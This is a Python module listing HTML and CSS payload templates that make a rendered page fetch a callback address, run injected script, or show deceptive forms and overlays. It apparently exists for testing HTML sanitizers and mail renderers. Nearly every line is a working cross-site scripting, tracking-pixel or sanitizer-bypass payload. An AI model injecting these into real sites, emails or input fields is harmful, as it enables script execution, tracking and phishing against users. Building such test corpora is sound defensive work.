"""HTML that runs something or asks somebody something as soon as it is shown; `{url}` is where it would be noticed.

Gathered from what browsers document (WHATWG HTML, SVG 2, CSS) and from the kinds of attack OWASP lists for HTML mail; written anew.
"""

JAVASCRIPT = "new Image().src='{url}'"

ASKING = [
    '<img src="{url}">',
    "<IMG SRC='{url}' />",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img></picture>",
    "<image src='{url}'>",
    "<input type=image src='{url}'>",
    "<video src='{url}' autoplay></video>",
    "<video poster='{url}'></video>",
    "<audio src='{url}' preload=auto></audio>",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=icon href='{url}'><link rel=preload as=image href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}} *{{font-family:x}}</style>x",
    "<body background='{url}'>",
    "<table background='{url}'><td>x</table>",
    "<div style='background:url({url})'>x</div>",
    "<div style='background:u\\72l({url})'>x</div>",
    "<div style='background-image:image-set(\"{url}\" 1x)'>x</div>",
    "<div style='list-style:url({url});display:list-item'>x</div>",
    "<div style='content:url({url})'>x</div>",
    "<div style='border-image:url({url}) 1'>x</div>",
    "<div style='cursor:url({url}),auto;width:9999px;height:9999px'>x</div>",
    "<div style='--x:url({url});background:var(--x)'>x</div>",
    "<div style='/*;*/background:/**/url(/**/{url})'>x</div>",
    "<svg><image href='{url}' width=9 height=9 /></svg>",
    "<svg><image xlink:href='{url}' width=9 height=9 /></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<svg><rect width=9 height=9 fill='url({url}#x)'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;URL=\"{url}\"'>",
    "<base href='{url}/'><img src=x>",
    "<noscript><p title=\"</noscript><img src='{url}'>\">",
    "<title><p title=\"</title><img src='{url}'>\">",
    "<textarea><p title=\"</textarea><img src='{url}'>\">",
    "<xmp><p title=\"</xmp><img src='{url}'>\">",
    "<noembed><p title=\"</noembed><img src='{url}'>\">",
    "<noframes><p title=\"</noframes><img src='{url}'>\">",
    "<plaintext><p title=\"</plaintext><img src='{url}'>\">",
    "<template><img src='{url}'></template><img src='{url}'>",
    "<!--[if gte mso 9]><img src='{url}'><![endif]--><img src='{url}'>",
    "<![CDATA[<img src='{url}'>]]>",
    "<svg><![CDATA[</svg><img src='{url}'>]]>",
    "<svg><p><style><g title=\"</style><img src='{url}'>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src='{url}'>",
    "<table><tr><td><img src='{url}'><table background={url}>",
    "<select><template><img src='{url}'></template></select><img src='{url}'>",
    "<p title='&quot;><img src={url}>'>x</p><img src='{url}'>",
    "<img\x0csrc='{url}'><img/src='{url}'>",
    "<img src=' \t\n{url}'>",
    "<bgsound src='{url}'><frameset><frame src='{url}'></frameset>",
    "<fencedframe src='{url}'></fencedframe><portal src='{url}'></portal><img src='{url}'>",
]
"""Shown, these ask the address."""

RUNNING = [
    "<script>{js}</script>",
    "<SCRIPT SRC='{url}'></SCRIPT>",
    "<script>{js}//",
    "<scr<script>ipt>{js}</script>",
    "<script type=module>{js}</script>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href='{url}'/></svg>",
    '<img src=x onerror="{js}">',
    "<img src=x:x onerror='{js}'//",
    '<IMG SRC=x OnErRoR="{js}">',
    '<svg onload="{js}">',
    "<svg/onload={js}//>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    '<body onload="{js}">',
    '<body onpageshow="{js}">',
    '<input autofocus onfocus="{js}">',
    '<details open ontoggle="{js}">x</details>',
    '<video><source onerror="{js}"></video>',
    '<audio src=x onerror="{js}">',
    '<iframe onload="{js}"></iframe>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe src=" &#x6A;avascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<marquee onstart="{js}">x</marquee>',
    '<style onload="{js}"></style>',
    "<link rel=stylesheet href='data:text/css,' onload=\"{js}\">",
    "<div style='animation:x 1s' onanimationstart=\"{js}\">x</div><style>@keyframes x{{}}</style>",
    '<x contenteditable autofocus tabindex=0 onfocus="{js}">x',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    '<a href="javascript:{js}" autofocus onfocus="{js}">x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<button popovertarget=x>x</button><div popover id=x onbeforetoggle="{js}"></div>',
    '<img src=x style="x:expression({js})" onerror="{js}">',
    '&lt;script&gt;{js}&lt;/script&gt;<img src=x onerror="{js}">',
    "+ADw-script+AD4-{js}+ADw-/script+AD4-<script>{js}</script>",
]
"""Shown, these run a script that asks the address."""

DOING = [
    "<form action='{url}'><input name=a autofocus></form>",
    "<a href='{url}' ping='{url}'>x</a>",
    "<map name=m><area href='{url}'></map>",
    "<button formaction='{url}' form=f>x</button>",
    "<a href='{url}' target=_top>x</a>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:99'>All is well</div>",
    "<div class=seen id=x name=y data-x=1 aria-hidden=true role=button tabindex=0 accesskey=x contenteditable>x</div>",
    "<input type=password value=secret><textarea>x</textarea><select><option>x</select>",
    "<dialog open>x</dialog><slot></slot><canvas></canvas>",
]
"""These wait for a click, or pretend to be something else."""


def payloads(url: str) -> list[str]:
    """Every payload with an address of its own: {url}/<number>."""
    made = []
    for number, template in enumerate((*ASKING, *RUNNING, *DOING)):
        own = f"{url}/{number}"
        made.append(template.format(url=own, js=JAVASCRIPT.format(url=own)))
    return made


SHOWN = len(ASKING) + len(RUNNING)
